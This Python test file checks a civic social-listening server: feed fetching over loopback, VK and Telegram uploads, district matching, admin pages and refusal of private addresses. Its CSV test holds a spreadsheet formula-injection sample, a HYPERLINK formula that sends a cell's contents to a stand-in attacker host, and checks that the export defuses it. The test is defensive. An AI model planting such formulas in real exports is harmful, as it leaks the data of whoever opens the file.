"""
test_listen.py: listening (docs/listening.md) over real HTTP: feed servers
on loopback (RSS in windows-1251 with conditional GET, broken XML, a 500),
VK and Telegram uploads with wrong shapes, saved queries and the analysis
of stored posts.
"""
import copy
import csv
import gzip
import http.server
import io
import json
import os
import threading
import time
import unittest

from harness import CITY, ServerTestCase, Session, multipart

LISTEN_CITY = copy.deepcopy(CITY)
LISTEN_CITY["addresses"] = [
    {"address": "ул. Свободы, %d" % n, "lat": 57.59, "long": 39.75 + n / 1000}
    for n in range(1, 20)]
for a in LISTEN_CITY["agencies"]:
    if a["code"] == "roads":
        a["aliases"] = ["дорожный департамент", "Дорнадзор"]

LISTEN_CITY["sources"] = [
    {"name": "city-tg", "kind": "telegram"},
    {"name": "city-feed", "kind": "atom", "url": "http://127.0.0.1:9/feed",
     "interval": 3600}]
LISTEN_CITY["districts"] = [
    {"name": "Кировский район", "aliases": ["Кировский р-н"]},
    {"name": "Ленинский район"}]

COMPLAINT = ("Отвратительная яма на улице Свободы, 12, Дорнадзор ничего не "
             "делает, это ужас и позор")

RSS = """<?xml version="1.0" encoding="windows-1251"?>
<rss version="2.0"><channel><title>Новости</title>
<item><guid>n-1</guid><link>http://news.example/1</link>
<description>{0}</description>
<author>ivan@mail.example (Иван Петров)</author>
<pubDate>Mon, 15 Jun 2026 09:00:00 +0300</pubDate></item>
</channel></rss>""".format(COMPLAINT).encode("cp1251")


ATOM = """<?xml version="1.0" encoding="koi8-r"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Блог</title>
<entry><id>urn:a:1</id><link rel="alternate" href="http://blog.example/1"/>
<author><name>blogger_kzn</name></author>
<updated>2026-06-15T08:00:00+03:00</updated>
<content type="html">&lt;p&gt;Во дворе &lt;b&gt;прорвало трубу&lt;/b&gt;&lt;/p&gt;</content>
</entry></feed>""".encode("koi8_r")

JSONFEED = gzip.compress(json.dumps({
    "version": "https://jsonfeed.org/version/1.1", "title": "Лента",
    "items": [{"id": "j-1", "url": "http://j.example/1",
               "content_text": "Спасибо коммунальщикам, быстро починили",
               "authors": [{"name": "jfeed_user"}],
               "date_published": "2026-06-15T07:00:00Z"}]},
    ensure_ascii=False).encode("utf-8"))

HUGE = ("""<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>
<item><guid>big</guid><description>%s</description></item>
<item><guid>small</guid><description>Короткая заметка</description></item>
</channel></rss>""" % ("слово " * 20000)).encode("utf-8")

SLOW_SECONDS = 3


class Feeds(http.server.BaseHTTPRequestHandler):
    seen = []

    def log_message(self, *a):
        pass

    def do_GET(self):
        Feeds.seen.append((self.path, dict(self.headers)))
        if self.path == "/rss":
            if self.headers.get("If-None-Match") == '"v1"':
                self.send_response(304)
                self.end_headers()
                return
            body, ctype = RSS, "application/rss+xml"
        elif self.path == "/broken":
            body, ctype = b"<rss><channel><item>", "application/rss+xml"
        elif self.path == "/atom":
            body, ctype = ATOM, "application/atom+xml"
        elif self.path == "/huge":
            body, ctype = HUGE, "application/rss+xml"
        elif self.path == "/json":
            self.send_response(200)
            self.send_header("Content-Type", "application/feed+json")
            self.send_header("Content-Encoding", "gzip")
            self.send_header("Content-Length", str(len(JSONFEED)))
            self.end_headers()
            self.wfile.write(JSONFEED)
            return
        elif self.path == "/slow":
            # Stall past the source's time limit (its own stall, no sleep
            # in the test itself).
            time.sleep(SLOW_SECONDS)
            body, ctype = RSS, "application/rss+xml"
        else:
            self.send_response(500)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("ETag", '"v1"')
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class FeedsOnLoopback(ServerTestCase):
    """A server with an administrator "boss" and Feeds on 127.0.0.1."""

    @classmethod
    def setUpClass(cls):
        cls.feeds = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Feeds)
        threading.Thread(target=cls.feeds.serve_forever, daemon=True).start()
        super().setUpClass()
        cls.server.create_user("boss", "admin")

    @classmethod
    def tearDownClass(cls):
        super().tearDownClass()
        cls.feeds.shutdown()


class TestListen(FeedsOnLoopback):
    city = LISTEN_CITY
    # The feed servers are on loopback, refused without this.
    serve_args = ("--fetch-allow-private",)

    def admin(self):
        return Session(self, "boss")

    def feed_url(self, path):
        return "http://127.0.0.1:%d%s" % (self.feeds.server_port, path)

    def sources(self, s):
        r = s.get("/api/v1/sources.json")
        self.assertEqual(r.status, 200, r)
        return {x["name"]: x for x in r.json()}

    def await_fetches(self, s, name, n):
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            src = self.sources(s)[name]
            if src["fetches"] >= n:
                return src
            time.sleep(0.05)
        self.fail("source %s was not fetched %d times" % (name, n))

    def test_feeds(self):
        s = self.admin()
        r = s.post("/api/v1/queries", {"name": "ямы", "query": "яма OR ямы"})
        self.assertEqual(r.status, 201, r)
        qid = r.json()["id"]
        for name, path in (("news", "/rss"), ("broken", "/broken"),
                           ("down", "/500")):
            r = s.post("/api/v1/sources", {"name": name, "kind": "rss",
                                           "url": self.feed_url(path),
                                           "interval": "60"})
            self.assertEqual(r.status, 201, r)
        src = self.await_fetches(s, "news", 1)
        self.assertIsNone(src["last_error"])
        self.assertIn("XML", self.await_fetches(s, "broken", 1)["last_error"])
        self.assertEqual(self.await_fetches(s, "down", 1)["last_error"],
                         "HTTP 500")
        posts = s.get("/api/v1/posts.json", {"source": src["id"]}).json()
        self.assertEqual(len(posts["posts"]), 1)
        p = posts["posts"][0]
        self.assertEqual(p["sentiment"], "negative")
        self.assertEqual(p["agency"], "roads")
        self.assertEqual(p["place"]["address"], "ул. Свободы, 12")
        self.assertEqual(p["language"], "ru")
        self.assertEqual([q["id"] for q in p["queries"]], [qid])
        self.assertIsNone(p["author"])           # an e-mail is never kept
        self.assertNotIn("Петров", json.dumps(p, ensure_ascii=False))
        # The next fetch is conditional and answered 304: no duplicate.
        self.server.advance(61)
        src = self.await_fetches(s, "news", 2)
        self.assertEqual(src["not_modified"], 1)
        last = [h for p_, h in Feeds.seen if p_ == "/rss"][-1]
        self.assertEqual(last.get("If-None-Match"), '"v1"')
        self.assertEqual(src["posts"], 1)
        # The broken one backs off: twice the interval after two failures.
        page = s.get("/listen", {"sentiment": "negative"})
        self.assertEqual(page.status, 200)
        self.assertIn("Свободы", page.text())
        table = s.get("/listen.csv", {"query": str(qid)})
        self.assertEqual(table.status, 200)
        self.assertIn("ул. Свободы, 12", table.text())

    def test_formats_and_limits(self):
        s = self.admin()
        for name, kind, path, extra in (
                ("atom", "atom", "/atom", {}),
                ("json", "jsonfeed", "/json", {}),
                ("huge", "rss", "/huge", {}),
                ("slow", "rss", "/slow", {"timeout_ms": "1000"})):
            fields = {"name": name, "kind": kind, "url": self.feed_url(path),
                      "interval": "60"}
            fields.update(extra)
            r = s.post("/api/v1/sources", fields)
            self.assertEqual(r.status, 201, r)
        srcs = {n: self.await_fetches(s, n, 1)
                for n in ("atom", "json", "huge", "slow")}
        self.assertIn("1000 ms", srcs["slow"]["last_error"])
        for n in ("atom", "json", "huge"):
            self.assertIsNone(srcs[n]["last_error"], n)
            self.assertEqual(srcs[n]["posts"], 1, n)

        def only(name):
            r = s.get("/api/v1/posts.json", {"source": srcs[name]["id"]})
            return r.json()["posts"][0]
        atom = only("atom")
        self.assertEqual(atom["text"], "Во дворе прорвало трубу")
        self.assertEqual(atom["author"], "blogger_kzn")
        self.assertEqual(atom["url"], "http://blog.example/1")
        js = only("json")
        self.assertIn("починили", js["text"])
        self.assertEqual(js["author"], "jfeed_user")
        self.assertEqual(only("huge")["text"], "Короткая заметка")

    def test_cli(self):
        out = self.server.cli("source", "add", "--db", self.server.db,
                              "--name", "cli-vk", "--kind", "vk")
        sid = out.strip()
        self.assertRegex(sid, r"^\d+$")
        listed = self.server.cli("source", "list", "--db", self.server.db)
        self.assertIn("cli-vk\tvk\t-", listed)
        with self.assertRaises(RuntimeError) as cm:
            self.server.cli("source", "add", "--db", self.server.db,
                            "--name", "cli-bad", "--kind", "rss",
                            "--url", "ftp://x")
        self.assertIn("url", str(cm.exception))
        self.server.cli("source", "remove", "--db", self.server.db,
                        "--id", sid)
        self.assertNotIn("cli-vk", self.server.cli(
            "source", "list", "--db", self.server.db))

    def test_bad_query(self):
        s = self.admin()
        r = s.post("/api/v1/queries", {"name": "bad", "query": "(яма"})
        self.assert_names(r, 400, "query")
        self.assertIn("byte", r.text())

    def upload(self, source, doc):
        ctype, body = multipart([("source", source),
                                 ("api_key", self.api_key)],
                                [("file", "export.json", "application/json",
                                  json.dumps(doc).encode())])
        return self.fetch("POST", "/api/v1/posts/import", body,
                          {"Content-Type": ctype})

    def test_csv_defuses_formulas(self):
        """A post whose text starts with = + - @, a tab or a CR reaches the
        CSV with an apostrophe before it: a spreadsheet shows it and does
        not run it; quotes, commas and line breaks stay RFC 4180."""
        s = self.admin()
        r = s.post("/api/v1/sources", {"name": "formulas",
                                       "kind": "telegram"})
        self.assertEqual(r.status, 201, r)
        texts = ['=HYPERLINK("http://evil.example/?x="&A1,"яма")',
                 "\t=1+2 яма во дворе", "\r=1+2 яма на дороге",
                 "+7 ям на улице", "-1 фонарь", "@SUM(1) лужа",
                 'обычная, "с кавычками"\nи строкой']
        tg = {"name": "Формулы", "type": "public_supergroup", "id": 11,
              "messages": [{"id": i + 1, "type": "message",
                            "date_unixtime": "1781503200",
                            "from_id": "user%d" % (i + 1), "text": t}
                           for i, t in enumerate(texts)]}
        r = self.upload("formulas", tg)
        self.assertEqual(r.status, 200, r)
        src = self.sources(s)["formulas"]
        r = s.get("/listen.csv", {"source": str(src["id"])})
        self.assertEqual(r.status, 200, r)
        rows = {x["author"]: x for x in csv.DictReader(
            io.StringIO(r.text(), newline=""))}
        got = {rows["user%d" % (i + 1)]["text"] for i in range(len(texts))}
        posts = s.get("/api/v1/posts.json", {"source": src["id"]}).json()
        stored = {p["id"]: p["text"] for p in posts["posts"]}
        self.assertEqual(len(stored), len(texts))
        for t in stored.values():
            if t[0] in "=+-@\t\r":
                self.assertIn("'" + t, got)
            else:
                self.assertIn(t, got)
        self.assertTrue(any(t[0] in "\t\r" for t in stored.values()),
                        stored)
        for row in rows.values():
            self.assertNotIn(row["text"][0], "=+-@\t\r")

    def test_uploads(self):
        s = self.admin()
        for name, kind in (("vk", "vk"), ("tg", "telegram")):
            r = s.post("/api/v1/sources", {"name": name, "kind": kind})
            self.assertEqual(r.status, 201, r)
        vk = {"response": {"count": 2, "items": [
            {"id": 1, "owner_id": -5, "from_id": 7, "date": 1781503200,
             "text": "Спасибо за новый парк!"},
            {"id": 2, "owner_id": -5, "from_id": 8, "date": "yesterday",
             "text": "x"}],
            "profiles": [{"id": 7, "first_name": "Анна",
                          "last_name": "Смирнова", "screen_name": "anna_s"}]}}
        r = self.upload("vk", vk)
        self.assertEqual(r.status, 400, r)
        self.assertIn("response.items[1].date", r.text())
        vk["response"]["items"].pop()
        r = self.upload("vk", vk)
        self.assertEqual(r.status, 200, r)
        self.assertEqual(r.json()["added"], 1)
        r = self.upload("vk", vk)
        self.assertEqual(r.json()["added"], 0)
        tg = {"name": "Чат", "type": "public_supergroup", "id": 99,
              "messages": [{"id": 1, "type": "message",
                            "date": "2026-06-15T09:00:00",
                            "date_unixtime": "1781503200",
                            "from": "Пётр Иванов", "from_id": "user42",
                            "text": ["Нет света ", {"type": "bold",
                                                    "text": "третий день"}]},
                           {"id": 2, "type": "message", "text": 5}]}
        r = self.upload("tg", tg)
        self.assertEqual(r.status, 400, r)
        self.assertIn("messages[1]", r.text())
        tg["messages"].pop()
        self.assertEqual(self.upload("tg", tg).status, 200)
        posts = s.get("/api/v1/posts.json").json()["posts"]
        text = json.dumps(posts, ensure_ascii=False)
        self.assertIn("anna_s", text)
        self.assertIn("user42", text)
        for private in ("Смирнова", "Анна", "Пётр Иванов"):
            self.assertNotIn(private, text)
        self.assertIn("Нет света третий день", text)


    def import_city(self, city):
        path = os.path.join(self.server.dir, "city2.json")
        with open(path, "w", encoding="utf-8") as f:
            json.dump(city, f, ensure_ascii=False)
        return self.server.cli("city", "import", "--db", self.server.db,
                               path)

    def test_city_sources_and_districts(self):
        s = self.admin()
        srcs = self.sources(s)
        self.assertIsNone(srcs["city-tg"]["url"])
        self.assertEqual(srcs["city-tg"]["kind"], "telegram")
        self.assertEqual(srcs["city-feed"]["interval"], 3600)
        # Imported again: changed by name, the same source.
        city = copy.deepcopy(LISTEN_CITY)
        city["sources"][1]["interval"] = 1800
        self.import_city(city)
        again = self.sources(s)["city-feed"]
        self.assertEqual(again["id"], srcs["city-feed"]["id"])
        self.assertEqual(again["interval"], 1800)
        # A bad source names its place, and nothing of the file is kept
        # (the source before it is not changed, the new agency not added).
        city["sources"][1]["interval"] = 1200
        city["sources"].append({"name": "bad", "kind": "rss",
                                "url": "ftp://x"})
        city["agencies"].append({"code": "new_agency", "name": "Новое",
                                 "services": []})
        with self.assertRaises(RuntimeError) as cm:
            self.import_city(city)
        self.assertIn("sources[2].url", str(cm.exception))
        srcs = self.sources(s)
        self.assertEqual(srcs["city-feed"]["interval"], 1800)
        self.assertNotIn("bad", srcs)
        self.assertEqual(self.server.sql_value(
            "SELECT count(*) FROM agencies WHERE code = 'new_agency'"), 0)
        # A post that names a district and no house gets the district.
        tg = {"name": "Чат", "type": "public_supergroup", "id": 7,
              "messages": [
                  {"id": 1, "type": "message", "date_unixtime": "1781503200",
                   "from_id": "user1",
                   "text": "В Кировском районе третий день нет горячей воды"},
                  {"id": 2, "type": "message", "date_unixtime": "1781503200",
                   "from_id": "user2",
                   "text": "Яма у дома на улице Свободы, 12, Кировский р-н"},
                  {"id": 3, "type": "message", "date_unixtime": "1781503200",
                   "from_id": "user3",
                   "text": "Спасибо за уборку снега во дворе"}]}
        r = self.upload("city-tg", tg)
        self.assertEqual(r.status, 200, r)
        posts = s.get("/api/v1/posts.json",
                      {"source": srcs["city-tg"]["id"]}).json()["posts"]
        by = {p["author"]: p for p in posts}
        self.assertEqual(by["user1"]["district"], "Кировский район")
        self.assertIsNone(by["user1"]["place"])
        self.assertEqual(by["user2"]["place"]["address"], "ул. Свободы, 12")
        self.assertIsNone(by["user2"]["district"])
        self.assertIsNone(by["user3"]["district"])
        page = s.get("/listen/posts/%d" % by["user1"]["id"])
        self.assertIn("Кировский район", page.text())
        r = s.get("/listen.csv", {"source": str(srcs["city-tg"]["id"])})
        rows = {x["author"]: x for x in csv.DictReader(
            io.StringIO(r.text(), newline=""))}
        self.assertEqual(rows["user1"]["place"], "")
        self.assertEqual(rows["user1"]["district"], "Кировский район")
        # The list, its JSON and its CSV filter by the district named.
        only = s.get("/api/v1/posts.json", {
            "source": srcs["city-tg"]["id"],
            "district": "Кировский район"}).json()["posts"]
        self.assertEqual([p["author"] for p in only], ["user1"])
        page = s.get("/listen", {"district": "Кировский район"}).text()
        self.assertIn('value="Кировский район"', page)
        self.assertIn("третий день нет горячей воды", page)
        self.assertNotIn("Спасибо за уборку снега", page)
        r = s.get("/listen.csv", {"district": "Кировский район"})
        self.assertEqual([x["author"] for x in csv.DictReader(
            io.StringIO(r.text(), newline=""))], ["user1"])


    def test_admin_page(self):
        s = self.admin()
        page = s.get("/listen/sources")
        self.assertIn('href="/admin/sources"', page.text())
        r = s.post("/admin/sources", {"name": "web-vk", "kind": "vk",
                                      "url": "", "interval": "900"})
        self.assertEqual(r.status, 303, r)
        page = s.get(r.headers["Location"])
        self.assertIn('id="flash"', page.text())
        self.assertIn("web-vk", page.text())
        # Errors name the field, and the form's token is required.
        r = s.post("/admin/sources", {"name": "web-rss", "kind": "rss",
                                      "url": "ftp://x"})
        self.assertEqual(r.status, 400, r)
        self.assertIn("url: an http://", r.text())
        r = s.post("/admin/sources", {"name": "web-x", "kind": "vk"},
                   csrf=False)
        self.assertEqual(r.status, 403, r)
        self.assertNotIn("web-x", self.sources(s))

        def upload(doc):
            ctype, body = multipart(
                [("source", "web-vk"), ("csrf", s.csrf)],
                [("file", "wall.json", "application/json",
                  json.dumps(doc).encode())])
            return s._keep(self.fetch("POST", "/admin/sources/import", body,
                                      s._headers({"Content-Type": ctype})))
        bad = {"response": {"items": [{"id": 1, "owner_id": -9,
                                       "date": "вчера", "text": "x"}]}}
        r = upload(bad)
        self.assertEqual(r.status, 400, r)
        self.assertIn("response.items[0].date", r.text())
        good = {"response": {"items": [{"id": 1, "owner_id": -9,
                                        "date": 1781503200,
                                        "text": "Нет света на улице"}]}}
        r = upload(good)
        self.assertEqual(r.status, 303, r)
        self.assertIn("added=1", r.headers["Location"])
        self.assertIn("1", s.get(r.headers["Location"]).text())
        src = self.sources(s)["web-vk"]
        self.assertEqual(src["posts"], 1)
        # A moderator reads the sources but does not manage them.
        self.server.create_user("mod_src", "moderator")
        m = Session(self, "mod_src")
        self.assertNotIn('href="/admin/sources"',
                         m.get("/listen/sources").text())
        self.assertEqual(m.get("/admin/sources").status, 403)
        r = s.post("/admin/sources/%d/remove" % src["id"], {})
        self.assertEqual(r.status, 303, r)
        self.assertNotIn("web-vk", self.sources(s))


if __name__ == "__main__":
    unittest.main()


class TestListenRefusesPrivate(FeedsOnLoopback):
    """Without --fetch-allow-private a source may not reach the server's own
    or its network's addresses (SSRF): neither by an address nor by a name
    that resolves to one; the source's health says why."""

    def test_loopback_refused(self):
        s = Session(self, "boss")
        port = self.feeds.server_port
        seen = len(Feeds.seen)
        for name, host in (("own", "127.0.0.1"), ("named", "localhost")):
            r = s.post("/api/v1/sources", {
                "name": name, "kind": "rss", "interval": "60",
                "url": "http://%s:%d/rss" % (host, port)})
            self.assertEqual(r.status, 201, r)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            src = {x["name"]: x for x in
                   s.get("/api/v1/sources.json").json()}
            if src["own"]["fetches"] >= 1 and src["named"]["fetches"] >= 1:
                break
            time.sleep(0.05)
        else:
            self.fail("the sources were not fetched")
        self.assertEqual(src["own"]["last_error"],
                         "address not allowed: 127.0.0.1 is a loopback "
                         "address")
        self.assertRegex(src["named"]["last_error"],
                         r"^address not allowed: (127\.0\.0\.1|::1) is a "
                         r"loopback address$")
        self.assertEqual(src["own"]["posts"], 0)
        self.assertEqual(len(Feeds.seen), seen)     # never connected
        page = s.get("/listen/sources")
        self.assertEqual(page.status, 200)
        self.assertIn("address not allowed: 127.0.0.1 is a loopback address",
                      page.text())
